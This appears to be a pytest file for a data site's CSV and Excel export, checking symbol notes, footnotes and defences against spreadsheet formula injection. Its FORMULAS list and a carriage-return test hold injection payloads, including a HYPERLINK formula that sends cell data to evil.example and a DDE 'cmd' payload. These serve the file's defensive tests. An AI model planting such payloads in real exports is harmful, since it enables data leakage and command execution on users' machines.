"""The one CSV writer: formula cells made text (attacks in tests/privacy/test_injection.py) and notes for symbols."""

from __future__ import annotations

import csv
import io

from generator.compute.missing import BLANK, code_missing
from generator.csv_download import csv_bytes


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_each_row_says_what_its_symbols_mean() -> None:
    hidden = code_missing("c", "suppressed by the publisher")
    rows = [["2020", 12, 3.5], ["2021", hidden, BLANK], ["2022", 14, 4.0]]
    assert read(csv_bytes(["year", "count", "rate"], rows)) == [
        ["year", "count", "rate", "notes"],
        ["2020", "12", "3.5", ""],
        ["2021", "[c]", "–", "[c]: suppressed by the publisher. –: no figure: the cell is blank in the source."],
        ["2022", "14", "4.0", ""],
        [], ["[c]: suppressed by the publisher."], ["–: no figure: the cell is blank in the source."],
    ]


def test_no_symbols_no_notes_column_and_a_taken_name_is_not_reused() -> None:
    assert read(csv_bytes(["a"], [[1]])) == [["a"], ["1"]]
    table = read(csv_bytes(["notes", "value"], [["checked", BLANK]]))
    assert table[0] == ["notes", "value", "symbol_notes"]
    assert table[1] == ["checked", "–", "–: no figure: the cell is blank in the source."]


def test_the_pages_footnotes_follow_the_data_after_a_blank_row_and_read_back_as_notes(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from generator.intake import read_csv

    hidden = code_missing("x", "not available")
    rows = [["2020", 12, 3.5], ["2021", hidden, BLANK]]
    data = csv_bytes(["year", "count", "rate"], rows,
                     notes=["c: suppressed to protect privacy (a count from 1 to 5).", "2 missing figures left out.",
                            "[x]: not available."],
                     source="DfE, children in need")
    assert read(data) == [
        ["year", "count", "rate", "notes"],
        ["2020", "12", "3.5", ""],
        ["2021", "[x]", "–", "[x]: not available. –: no figure: the cell is blank in the source."],
        [],
        ["[x]: not available."],  # once, though the page's notes hold it too
        ["–: no figure: the cell is blank in the source."],
        ["c: suppressed to protect privacy (a count from 1 to 5)."],
        ["Note: 2 missing figures left out."],
        ["Source: DfE, children in need"],
    ]
    path = tmp_path / "download.csv"
    path.write_bytes(data)
    file, problems = read_csv(path)
    assert problems == [] and file is not None
    assert [record.cells for record in file.records] == read(data)[1:3]  # a reader gets the data rows alone
    assert [record.cells[0] for record in file.notes] == [row[0] for row in read(data)[4:]]
    assert read(csv_bytes(["a", "b"], [[1, 2]], source="")) == [["a", "b"], ["1", "2"]]  # nothing to say: no rows


def test_a_computed_tables_workbook_keeps_its_notes_on_a_notes_sheet() -> None:
    import openpyxl

    from generator.compute.tables import Cell, ComputedTable
    from generator.exports.xlsx import table_workbook

    table = ComputedTable("Referrals", [("LA", None), ("Referrals", None)],
                          [[Cell("Ashby", "text"), Cell(code_missing("x", "not available"), "integer")],
                           [Cell("Brent", "text"), Cell(None, "suppressed")]],
                          notes=["c: suppressed to protect privacy (a count from 1 to 5).", "1 missing figure left out."],
                          source="DfE")
    book = openpyxl.load_workbook(io.BytesIO(table_workbook(table)))
    assert book.sheetnames == ["Table", "Notes"]
    rows = [list(row) for row in book["Table"].iter_rows(values_only=True)]
    assert rows[0] == ["Referrals", None] and "Notes worksheet" in rows[1][0]
    assert rows[2:] == [["LA", "Referrals"], ["Ashby", "[x]"], ["Brent", "c"]]
    assert [list(row) for row in book["Notes"].iter_rows(values_only=True)] == [
        ["Notes", None], ["Note", "Text"], ["[x]", "not available."],
        ["c", "suppressed to protect privacy (a count from 1 to 5)."],
        ["Note 1", "1 missing figure left out."], ["Source", "DfE"]]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_a_formula_in_a_note_or_the_source_stays_text_in_the_csv() -> None:
    # Notes and sources come from authors (a dataset's title, a block's notes): the footnote rows are cells too.
    for formula in FORMULAS:
        rows = read(csv_bytes(["a"], [[1]], notes=[formula], source=formula))
        footnotes = [row[0] for row in rows[3:]]
        assert footnotes and all(cell[0] not in "=+-@\t\r" for cell in footnotes), (formula, footnotes)


def test_a_formula_in_a_note_or_the_source_stays_text_on_the_notes_sheet() -> None:
    import zipfile

    from generator.compute.tables import Cell, ComputedTable
    from generator.exports.xlsx import table_workbook

    for formula in FORMULAS:
        table = ComputedTable("T", [("LA", None), ("n", None)], [[Cell("Ashby", "text"), Cell(3, "integer")]],
                              notes=[formula, f"c: {formula}"], source=formula)
        with zipfile.ZipFile(io.BytesIO(table_workbook(table))) as archive:
            sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
        assert "<f>" not in sheets and "<f " not in sheets, formula


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    # Written unquoted, "x\r=1" would be two rows to a spreadsheet, the second opening with a formula.
    data = csv_bytes(["a", "b"], [["x\r=HYPERLINK(\"http://evil.example\")", "y\r\n@SUM(1)"]])
    assert b"\r" not in data
    assert data.decode("utf-8").count('"') >= 4  # both cells quoted, so their line breaks stay inside them
    assert read(data) == [["a", "b"], ["x\n=HYPERLINK(\"http://evil.example\")", "y\n@SUM(1)"]]


def test_a_source_line_says_source_once_in_either_language() -> None:
    from generator.render.i18n import translate

    for language in ("en", "cy"):
        worded = translate("Source: %(source)s", language) % {"source": "DfE. OGL"}  # as a chart's source reads
        for source in ("DfE. OGL", worded):  # a dataset's bare provenance, a chart's line
            last = read(csv_bytes(["a"], [[1]], source=source, language=language))[-1]
            assert last == [worded], (language, source)
